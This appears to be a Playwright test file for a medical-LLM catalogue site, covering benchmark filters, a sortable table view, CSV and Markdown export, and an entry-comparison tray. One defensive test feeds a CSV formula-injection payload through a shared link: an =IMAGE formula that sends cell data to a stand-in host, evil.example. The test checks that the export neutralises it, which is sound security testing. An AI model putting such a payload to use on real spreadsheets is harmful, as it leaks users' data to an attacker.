  it('hide flagged results and keep a reporter, lifting each checkpoint\'s best remaining result to its row, kept in the URL', async () => {
    const { page, context } = await open('/benchmarks/medqa/');
    const all = await medqaRows(page);
    expect(all.some(([, , flags]) => flags !== '—')).toBe(true);
    await page.getByRole('checkbox', { name: 'Hide flagged results' }).check();
    expect(page.url()).toBe(`${started.site.origin}/benchmarks/medqa/?flagged=hide`);
    const unflagged = await medqaRows(page);
    expect(unflagged.length).toBeLessThan(all.length);
    expect(unflagged.every(([, , flags]) => flags === '—')).toBe(true);
    expect(await page.locator('[data-filter-status]').textContent()).toMatch(/^Showing \d+ of \d+ results\.$/);

    // Third-party only: Med-PaLM 2's first-party headline gives way to its best third-party result.
    await page.getByLabel('Reported by').selectOption('third-party');
    expect(page.url()).toBe(`${started.site.origin}/benchmarks/medqa/?party=third-party&flagged=hide`);
    const third = await medqaRows(page);
    expect(third.every(([, , , party]) => party === 'third-party')).toBe(true);
    expect(third.filter(([, name]) => /med-?palm/i.test(name!))[0]!.slice(0, 2)).toEqual(['headline', 'MedPaLM 2']);
    // The headlines stay ranked best first after the filter moved them.
    const values = await page.locator('#us-4-option-test--accuracy-heading ~ section table.results-table tbody:not([hidden]) tr.headline').evaluateAll((rows) => rows.map((tr) => parseFloat((tr as HTMLTableRowElement).cells[3]!.textContent!)));
    expect(values).toEqual([...values].sort((a, b) => b - a));

    await page.reload();
    expect(await page.getByLabel('Reported by').inputValue()).toBe('third-party');
    expect(await medqaRows(page)).toEqual(third);
    await page.goBack();
    await expect.poll(() => page.getByLabel('Reported by').inputValue()).toBe('');
    expect((await medqaRows(page)).length).toBe(unflagged.length);
    await context.close();
  });

  it('shows every row without JavaScript, the filters hidden', async () => {
    const { page, context } = await open('/benchmarks/medqa/?flagged=hide', { javaScriptEnabled: false });
    expect(await page.locator('benchmark-filter form').isVisible()).toBe(false);
    expect((await medqaRows(page)).some(([, , flags]) => flags !== '—')).toBe(true);
    await context.close();
  });
});

describe('the table view', () => {
  it('shows the filtered list as a table kept in the URL, sorted by a column header with aria-sort', async () => {
    const { page, context } = await open('/llms/?institute=Google');
    await page.getByRole('radio', { name: 'Table' }).check();
    expect(started.site.origin + '/llms/?institute=Google&view=table').toBe(page.url());
    const table = page.locator('[data-table] table');
    await expect.poll(() => table.count()).toBe(1);
    expect(await table.locator('caption').textContent()).toBe('8 of 33 entries (institute Google), newest first.');
    const titles = () => table.locator('tbody th').allTextContents();
    expect(await titles()).toEqual(['MedGemma', 'PH-LLM', 'Med-Gemini 2D / 3D / Polygenic', 'Med-Gemini', 'AMIE', 'CoDoC', 'Med-PaLM 2', 'Med-PaLM']);
    await table.getByRole('button', { name: 'Likes' }).click();
    expect(page.url()).toBe(`${started.site.origin}/llms/?institute=Google&sort=likes&view=table`);
    expect(await table.locator('th[aria-sort="descending"]').textContent()).toContain('Likes');
    expect((await titles())[0]).toBe('MedGemma');
    expect(await page.getByLabel('Sort by').inputValue()).toBe('likes');
    await page.reload();
    await expect.poll(() => table.count()).toBe(1);
    expect(await page.getByRole('radio', { name: 'Table' }).isChecked()).toBe(true);
    await page.getByRole('radio', { name: 'Cards' }).check();
    expect(await shown(page)).toEqual(['medgemma', 'ph-llm', 'med-gemini-2d-3d-polygenic', 'med-gemini', 'amie', 'codoc', 'med-palm-2', 'med-palm']);
    await context.close();
  });

  it('adds one benchmark result of your choice as a column, best first, kept in the URL', async () => {
    const { page, context } = await open('/llms/?institute=Google');
    const column = 'medqa.us-4-option-test.accuracy';
    await page.getByLabel('Benchmark column').selectOption(column);
    expect(page.url()).toBe(`${started.site.origin}/llms/?institute=Google&sort=result&view=table&result=${column}`);
    const table = page.locator('[data-table] table');
    await expect.poll(() => table.locator('.result-cell').count()).toBe(1);
    const sorted = table.locator('th[aria-sort="descending"]');
    expect(await sorted.textContent()).toContain('MedQA');
    expect(await sorted.getByRole('link', { name: 'before comparing' }).getAttribute('href')).toBe('/benchmarks/medqa/#us-4-option-test--accuracy');
    expect((await table.locator('tbody th').allTextContents()).slice(0, 2)).toEqual(['Med-PaLM 2', 'MedGemma']);
    expect(await table.locator('tbody tr').first().locator('td').first().textContent()).toMatch(/^86\.50% Med-PaLM 2/);
    expect(await table.locator('caption').textContent()).toContain('1 of 8 have one');
    expect(await page.getByLabel('Sort by').inputValue()).toBe('result');

    // Another order keeps the column; a reload restores both; "None" takes it away and its order with it.
    await table.getByRole('button', { name: 'Likes' }).click();
    expect(page.url()).toBe(`${started.site.origin}/llms/?institute=Google&sort=likes&view=table&result=${column}`);
    expect(await table.locator('.result-cell').count()).toBe(1);
    await page.goto(`${started.site.origin}/llms/?sort=result&view=table&result=${column}`);
    await expect.poll(() => table.locator('.result-cell').count()).toBe(4);
    expect((await table.locator('tbody th').allTextContents()).slice(0, 4)).toEqual(['Med-PaLM 2', 'MEDITRON-70B', 'PMC-LLaMA', 'BioMistral']);
    await page.getByLabel('Benchmark column').selectOption('');
    expect(page.url()).toBe(`${started.site.origin}/llms/?view=table`);
    await expect.poll(() => table.locator('.result-cell').count()).toBe(0);
    await context.close();
  });

  it('says what the best-result sort needs when no benchmark column is chosen, instead of ignoring it', async () => {
    const { page, context } = await open('/llms/?sort=result&view=table');
    const table = page.locator('[data-table] table');
    await expect.poll(() => table.count()).toBe(1);
    const option = page.locator('#filter-sort option[value="result"]');
    expect(await option.isDisabled()).toBe(true);
    expect(await option.textContent()).toBe('Best benchmark result (choose a benchmark column first)');
    const note = page.locator('[data-sort-note]');
    expect(await note.isVisible()).toBe(true);
    expect(await note.textContent()).toBe('This link asks for the best benchmark result first, but choose a benchmark column first; shown newest first.');
    await page.getByLabel('Benchmark column').selectOption('medqa.us-4-option-test.accuracy');
    expect(await note.isVisible()).toBe(false);
    expect(await option.textContent()).toBe('Best benchmark result');
    expect(await page.getByLabel('Sort by').inputValue()).toBe('result');
    await context.close();
  });

  it('leaves out a column the list does not have, and its order', async () => {
    const { page, context } = await open('/surveys/?sort=result&view=table&result=medqa.us-4-option-test.accuracy');
    const table = page.locator('[data-table] table');
    await expect.poll(() => table.count()).toBe(1);
    expect(await page.getByLabel('Benchmark column').count()).toBe(0);
    expect(await table.locator('caption').textContent()).toContain('newest first');
    await context.close();
  });

  it('scrolls sideways inside its box on a phone, never the page', async () => {
    const { page, context } = await open('/llms/?view=table', { viewport: { width: 375, height: 800 } });
    await expect.poll(() => page.locator('[data-table] table').count()).toBe(1);
    const widths = await page.evaluate(() => ({ page: document.documentElement.scrollWidth, box: document.querySelector<HTMLElement>('[data-table]')!.scrollWidth, view: innerWidth }));
    expect(widths.page).toBeLessThanOrEqual(widths.view);
    expect(widths.box).toBeGreaterThan(widths.view);
    await context.close();
  });
});

describe('exporting a view', () => {
  it('downloads the filtered list as CSV and copies it as a Markdown table, each saying its filters', async () => {
    const { page, context } = await open('/llms/?institute=Google&year=2024&sort=citations', { permissions: ['clipboard-read', 'clipboard-write'], acceptDownloads: true });
    await shown(page);
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()]);
    expect(download.suggestedFilename()).toBe('llms.csv');
    const csv = await readFile((await download.path())!, 'utf8');
    expect(csv.split('\n')[0]).toBe(`"# 4 of 33 entries from ${started.site.origin}/llms/?institute=Google&year=2024&sort=citations (2024, institute Google), most cited first."`);
    const rows = parseCsv(csv, { from_line: 2, columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.Title)).toEqual(['PH-LLM', 'Med-Gemini 2D / 3D / Polygenic', 'Med-Gemini', 'AMIE']);
    expect(rows[0]).toMatchObject({ Page: `${started.site.origin}/entries/ph-llm/`, Published: '2024-06', Citations: '52', Stars: '' });
    await page.getByRole('button', { name: 'Copy as Markdown' }).click();
    await expect.poll(() => page.locator('.results-head [data-copy-status]').textContent()).toBe('Copied 4 entries as a Markdown table.');
    const markdown = await page.evaluate(() => navigator.clipboard.readText());
    expect(markdown).toMatch(/^4 of 33 entries from .+ \(2024, institute Google\), most cited first\.\n\n\| Title +\| Page +\| Published/);
    expect(markdown).toContain('| PH-LLM ');
    await context.close();
  });
});

describe('exporting a view from a hostile shared link', () => {
  it('keeps the search text inside the first line’s one text cell: no cell of the file starts a formula', async () => {
    // The link as the review sent it, unencoded: the page reads q as x,=IMAGE("https://evil.example/pixel?from="
    const { page, context } = await open('/llms/?q=x,=IMAGE("https://evil.example/pixel?from="&A1&"', { acceptDownloads: true });
    await shown(page);
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()]);
    // relax_quotes reads the line as a spreadsheet would, quotes inside an unquoted cell included.
    const records = parseCsv(await readFile((await download.path())!, 'utf8'), { relax_column_count: true, relax_quotes: true }) as string[][];
    expect(records[0]).toHaveLength(1);
    expect(records[0]![0]).toMatch(/^# 0 of 33 entries from .+ \(search "x,=IMAGE\("https:\/\/evil\.example\/pixel\?from=""\), newest first\.$/);
    expect(records.flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    await context.close();
  });
});

describe('exporting a view with a benchmark column', () => {
  it('carries the column, its checkpoint and setting, in the view’s order', async () => {
    const { page, context } = await open('/llms/?sort=result&view=table&result=medqa.us-4-option-test.accuracy', { acceptDownloads: true });
    await expect.poll(() => page.locator('[data-table] .result-cell').count()).toBe(4);
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()]);
    const csv = await readFile((await download.path())!, 'utf8');
    expect(csv.split('\n')[0]).toMatch(/, best MedQA \(USMLE\) · USMLE, English, 4 options, test · Accuracy first\."$/);
    const rows = parseCsv(csv, { from_line: 2, columns: true }) as Record<string, string>[];
    const column = 'MedQA (USMLE) · USMLE, English, 4 options, test · Accuracy';
    // BioMistral's best is its best unflagged result, not the 51.1 of a checkpoint trained on the benchmark.
    expect(rows.slice(0, 4).map((row) => [row.Title, row[column], row[`${column}: checkpoint`], row[`${column}: other setting`], row[`${column}: flags`]])).toEqual([
      ['Med-PaLM 2', '86.5', 'Med-PaLM 2', '', ''],
      ['MEDITRON-70B', '70.2', 'MediTron-70B (Ensemble, 5 runs)', 'ensemble of 5 runs (as labelled in the row)', ''],
      ['PMC-LLaMA', '56.4', 'PMC-LLaMA', '', ''],
      ['BioMistral', '50.6', 'BioMistral', '', ''],
    ]);
    expect(rows[4]![column]).toBe('');
    await context.close();
  });
});

describe('choosing entries to compare from a list', () => {
  it('takes them from cards and table rows, and links to their comparison', async () => {
    const { page, context } = await open('/llms/');
    await page.getByRole('button', { name: 'Compare MEDITRON-70B' }).click();
    await page.getByRole('button', { name: 'Compare BioMistral' }).click();
    expect(await page.getByRole('button', { name: 'Compare BioMistral' }).getAttribute('aria-pressed')).toBe('true');
    await page.getByRole('radio', { name: 'Table' }).check();
    await page.locator('[data-table] table').getByRole('button', { name: 'Compare MedGemma' }).click();
    await page.getByRole('link', { name: 'Compare 3 entries' }).click();
    expect(page.url()).toBe(`${started.site.origin}/compare/?ids=meditron-70b,biomistral,medgemma`);
    await expect.poll(() => page.locator('compare-view thead th a').allTextContents()).toEqual(['MEDITRON-70B', 'BioMistral', 'MedGemma']);
    await context.close();
  });

  it('keeps a tray on screen while choosing (how many, go, clear), and says why a fifth cannot be added', async () => {
    const { page, context } = await open('/llms/', { viewport: { width: 375, height: 812 } });
    const tray = page.locator('[data-compare-tray]');
    expect(await tray.isVisible()).toBe(false);
    await activate(page.getByRole('button', { name: 'Compare MEDITRON-70B' }));
    expect(await tray.locator('[data-compare-count]').textContent()).toBe('1 of 4 chosen; choose one more to compare.');
    for (const title of ['BioMistral', 'MedGemma', 'PMC-LLaMA']) await activate(page.getByRole('button', { name: `Compare ${title}` }));
    expect(await tray.locator('[data-compare-count]').textContent()).toBe('The comparison is full (4 of 4): remove one to add another.');
    // Far down the list, the tray is still in view.
    await page.locator('.entry-list > li.entry').last().scrollIntoViewIfNeeded();
    const box = (await tray.boundingBox())!;
    expect(box.y).toBeGreaterThanOrEqual(0);
    expect(box.y + box.height).toBeLessThanOrEqual(812);
    expect(await page.getByRole('link', { name: 'Compare 4 entries' }).isVisible()).toBe(true);
    const fifth = page.getByRole('button', { name: 'Compare ChatDoctor' });
    expect(await fifth.isDisabled()).toBe(true);
    expect(await fifth.getAttribute('title')).toBe('The comparison is full (4 of 4): remove one to add another.');
    expect(await fifth.evaluate((button) => document.getElementById(button.getAttribute('aria-describedby')!)?.textContent)).toBe('The comparison is full (4 of 4): remove one to add another.');
    await activate(page.getByRole('button', { name: 'Clear the comparison' }));
    expect(await tray.isVisible()).toBe(false);
    expect(await fifth.isDisabled()).toBe(false);
    expect(await page.getByRole('button', { name: 'Compare MEDITRON-70B' }).getAttribute('aria-pressed')).toBe('false');
    await context.close();
  });
});
